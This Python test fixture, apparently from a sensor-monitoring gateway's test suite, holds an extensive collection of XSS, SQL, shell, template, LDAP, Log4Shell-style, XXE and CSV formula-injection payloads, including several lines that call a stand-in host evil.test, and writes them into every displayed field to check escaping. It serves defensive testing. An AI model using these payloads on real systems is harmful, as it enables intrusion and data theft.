"""What somebody might write into a name, a reason or a note to make a page or a spreadsheet do something."""

from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

from walled_house import Walled

from gateway.domain import Absence, Area, Duty, Grid, Installation, Override, Person, Profile, Reach
from gateway.domain.rota import Holiday, Leave
from gateway.ports import Batch, HubDevice, Quarantined

CALL = "xss({n})"
_TAGS = (
    "<script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</script><script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script/x>{c}</script>",
    "<script src=data:,{c}></script>",
    "<svg><script>{c}</script></svg>",
    "<img src=x onerror={c}>",
    "<img/src='x'/onerror={c}>",
    '<img src="x`<script>{c}</script>"` `>',
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<iframe src=javascript:parent.{c}>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c} id=x>x</a>",
    "<form action=javascript:{c}><button>x</button></form>",
    "<button formaction=javascript:{c} form=x>x</button>",
    "<math><a xlink:href=javascript:{c}>x</a></math>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=data:,*{{x:{c}}}>",
    "<style>@import 'javascript:{c}';</style>",
    "<style onload={c}></style>",
    "<marquee onstart={c}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[><script>{c}</script>]]>",
    "<?xml version='1.0'?><script>{c}</script>",
    "<x onclick={c} tabindex=1 autofocus onfocus={c}>",
    "<div hx-get=/logout hx-trigger=load hx-on:load={c}>",
    "<div hx-on::after-request={c} hx-get=/ hx-trigger=load></div>",
    "<div data-hx-on:click={c}></div>",
    "<dialog open oncancel={c}></dialog>",
)
_ATTRIBUTES = (
    '" onmouseover={c} x="',
    "' onmouseover={c} x='",
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>",
    '" style="x:expression({c})',
    '" hx-on:load="{c}',
    '" srcdoc="<script>{c}</script>',
    "x onerror={c}",
    "` onmouseover={c} `",
    '"/onmouseover={c}//',
    "\"'><svg/onload={c}>",
    '" accesskey=x onclick={c} "',
    '" formaction="javascript:{c}',
)
_ADDRESSES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "java\tscript:{c}",
    "\x01javascript:{c}",
    "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "vbscript:{c}",
    "//evil.test/{n}",
    "https://evil.test/{n}",
    "/\\evil.test/{n}",
)
_ENTITIES = (
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "&#x3c;img src=x onerror={c}&#x3e;",
    "&quot; onmouseover={c} &quot;",
    "&amp;lt;script&amp;gt;{c}",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}",
    "＜script＞{c}＜/script＞",
    "<\u200bscript>{c}</script>",
    "<scr\x00ipt>{c}</scr\x00ipt>",
    "\u2028<script>{c}</script>",
    "\u202e<script>{c}</script>",
)
_WRITTEN_INTO_CODE = (
    "'-{c}-'",
    '"-{c}-"',
    "\\'-{c}//",
    '\\";{c}//',
    "${{{c}}}",
    "`${{{c}}}`",
    "*/{c}/*",
    "]]>{c}",
    "{{{{ {c} }}}}",
    "{{% print {c} %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{c};//",
    "');{c};//",
    '"}});{c};//',
    "{{name.__init__.__globals__}}",
)

_HANDLERS = (
    "<a onmouseenter={c} style=display:block>x</a>",
    "<a onpointerover={c}>x</a>",
    "<b oncontextmenu={c}>x</b>",
    "<body onpageshow={c}>",
    "<body onhashchange={c}>",
    "<body onmessage={c}>",
    "<body onbeforeprint={c}>",
    "<body onresize={c}>",
    "<body onscroll={c}><br><input autofocus>",
    "<div onwheel={c}>x</div>",
    "<div onanimationstart={c} style=animation:spin>x</div>",
    "<div ontransitionend={c} style=transition:all>x</div>",
    "<div contenteditable onbeforeinput={c}>x</div>",
    "<div popover id=p onbeforetoggle={c}>x</div><button popovertarget=p>x</button>",
    "<form onformdata={c}><button>x</button></form>",
    "<form oninput={c}><input></form>",
    "<form onsubmit={c}><input type=submit></form>",
    "<input oninvalid={c} required>",
    "<input onsearch={c} type=search>",
    "<input type=image src=x onerror={c}>",
    "<input type=hidden oncontentvisibilityautostatechange={c} style=content-visibility:auto>",
    "<keygen autofocus onfocus={c}>",
    "<menu id=x contextmenu=x onshow={c}>x</menu>",
    "<object onerror={c} data=x></object>",
    "<portal onload={c}>",
    "<track default onerror={c} src=x>",
    "<video onloadstart={c} src=x autoplay></video>",
    "<video poster=javascript:{c}></video>",
    "<xss onauxclick={c} tabindex=1>x</xss>",
    "<img src onerror\n=\n{c}>",
    "<img\fsrc=x\fonerror={c}>",
    "<img src=x onerror=&#x78;ss({n})>",
    "<img srcset=x onerror={c}>",
    "<image src=x onerror={c}>",
    "<picture><source srcset=x><img onerror={c}></picture>",
    "<isindex type=image src=x onerror={c}>",
)
_FOREIGN = (
    "<svg><set attributeName=onmouseover to={c}>",
    "<svg><a><animate attributeName=href values=javascript:{c} /><text>x</text></a>",
    "<svg><use href=data:image/svg+xml,<svg/onload={c}>#x>",
    "<svg><foreignObject><body onload={c}></foreignObject>",
    "<svg><image href=x onerror={c}>",
    "<svg><style><img src=x onerror={c}></style>",
    "<svg></p><style><g title='</style><img src=x onerror={c}>'>",
    "<svg><desc><![CDATA[</desc><script>{c}</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={c}&gt;'>",
    "<math><mi//xlink:href='data:x,<script>{c}</script>'>",
    "<math><annotation-xml encoding=text/html><script>{c}</script></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<table background=javascript:{c}><tr><td>x</table>",
    "<listing>&lt;img onerror={c} src=x&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={c}>'>",
    "<plaintext><script>{c}</script>",
    "<noembed><img title='</noembed><script>{c}</script>'></noembed>",
    "<frameset onload={c}></frameset>",
    "<applet code=javascript:{c}>",
    "<!--[if IE]><script>{c}</script><![endif]-->",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{c}</x>",
    "<x xmlns:xsl=http://www.w3.org/1999/XSL/Transform><xsl:script>{c}</xsl:script></x>",
    "<slot name=x><script>{c}</script></slot>",
    "<template shadowrootmode=open><script>{c}</script></template>",
    "<script type=module>{c}</script>",
    "<script type=importmap>{{}}</script><script async>{c}</script>",
    "<iframe sandbox=allow-scripts srcdoc='<body onload=parent.{c}>'>",
    "<meta http-equiv=Content-Security-Policy content=script-src%20*><script>{c}</script>",
    "<meta http-equiv=set-cookie content=session={n}>",
    "<meta name=htmx-config content='{{\"allowEval\":true}}'><b hx-vals=js:x:{c}>",
    "<button hx-post=/logout hx-trigger='load delay:1ms' hx-vals='js:{{x:{c}}}'>x</button>",
    "<div hx-get=//evil.test/{n} hx-trigger=revealed>x</div>",
    "<div sse-connect=//evil.test/{n} hx-ext=sse>x</div>",
    "<dialog open><form method=dialog action=javascript:{c}></form></dialog>",
)
_OTHER_TONGUES = (
    "' OR 1=1 -- {c}",
    "'; DROP TABLE alerts; -- {c}",
    '" UNION SELECT secret FROM sessions -- {c}',
    "1; ATTACH DATABASE '/var/{n}' AS x; -- {c}",
    "\\'; SELECT pg_sleep(9); -- {c}",
    "%' ESCAPE '!' -- {c}",
    "$(touch /var/{n}) {c}",
    "`touch /var/{n}` {c}",
    "| touch /var/{n} # {c}",
    "../../../../etc/passwd {c}",
    "..%2f..%2fetc%2fpasswd {c}",
    "file:///etc/passwd?{c}",
    "x\r\nSet-Cookie: session={n}; {c}",
    "x\r\n\r\n<script>{c}</script>",
    'x\n{{"level": "error", "event": "forged", "by": "{c}"}}',
    "x\x1b[2J\x1b]0;{c}\x07",
    "\x85{c}\u2029",
    "%s%n%x {c}",
    "{{0.__class__.__init__.__globals__}} {c}",
    "${{jndi:ldap://evil.test/{n}}} {c}",
    "{{{{ config }}}} {c}",
    "{{{{ self._TemplateReference__context }}}} {c}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{c}{{% endfor %}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "<!--#exec cmd='touch /var/{n}' --> {c}",
    "*)(uid=*))(|(uid=* {c}",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "\ufeff<script>{c}</script>",
    "<\u0130mg src=x onerror={c}>",
    "\u02b9\u02ba\uff1cimg src=x onerror={c}\uff1e",
    "\u2066<script>{c}</script>\u2069",
    "e\u0301" * 9 + "{c}",
)

PAYLOADS = tuple(
    text.format(c=CALL.format(n=number), n=number)
    for number, text in enumerate(
        (
            *_TAGS,
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_ENTITIES,
            *_WRITTEN_INTO_CODE,
            *_HANDLERS,
            *_FOREIGN,
            *_OTHER_TONGUES,
        )
    )
)
"""Each calls `xss` with its number, where a browser would; the last are for whoever else reads it."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1;=2+2",
    '","=1+1',
    '"\r\n=1+1',
    '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
)


def poison(rig: Walled, text: Callable[[str], str]) -> None:
    """Write into every field of this side of the wall that a page shows; past the registrar, as an import might."""
    now, registry = rig.clock.now(), rig.registry
    home = registry.home("h1")
    rooms = tuple(replace(room, name=text(f"room {room.id}")) for room in home.rooms)
    sensors = tuple(replace(one, name=text(f"sensor {one.id}"), model=text("model")) for one in home.sensors)
    with registry.begin() as ledger:
        ledger.put_area(Area(code="1101", name=text("area"), level="community", parent="1100"), now)
        ledger.put_grid(Grid(code="g1", name=text("grid"), community="1101"))
        ledger.put_home(
            replace(
                home,
                name=text("home"),
                code=text("code"),
                address=text("address"),
                access=text("access"),
                rooms=rooms,
                sensors=sensors,
            ),
            now,
        )
        for person in ("wang", "wei", "liu", "he", "ma", "chief", "ins", "vol"):
            reaches = (Reach(channel="console", address=text("way")),)
            ledger.put_person(Person(id=person, name=text(f"person {person}"), reaches=reaches), now)
        ledger.put_phones("wei", [text("phone")], now)
        ledger.assign("ins", Duty.INSTALLER, "g1", now)
        ledger.put_profile(
            Profile(person="wang", conditions=text("ill"), dialect=text("dialect"), hospital=text("hospital")), now
        )
        for key, value in (("absence", Absence.HOLIDAY.value), ("visit", "mon 09:00-11:00"), ("risk", "yes")):
            ledger.put_override(
                Override(
                    home="h1",
                    key=key,
                    value=value,
                    since=now - timedelta(hours=1),
                    until=now + timedelta(days=1),
                    author="liu",
                    reason=text(f"reason {key}"),
                )
            )
        ledger.put_holiday(Holiday(day=now.date(), place="g1", name=text("holiday")))
        ledger.put_leave(Leave(person="he", since=now, until=now + timedelta(days=2), reason=text("leave")))
        ledger.note_installation(
            Installation(home="h1", sensor="h1-m", at=now, by="ins", passed=True, note=text("installation"))
        )
    rig.readings.commit(
        Batch(
            devices=[HubDevice("hub-1", text("address"), text("device"), text("device model"), text("vendor"))],
            quarantined=[
                Quarantined(text("topic"), "unknown-device", now, 9, text("head").encode(), "hub-1", text("detail"))
            ],
        )
    )
    rig.account("li1", Duty.GRID_WORKER, "g1")
    rig.keeper.open(rig.accounts.account("li1"), text("browser"))
    rig.keeper.open(rig.accounts.account("chief"), text("browser"))
    rig.desk.note(rig.own.id, "liu", text("note"), now)
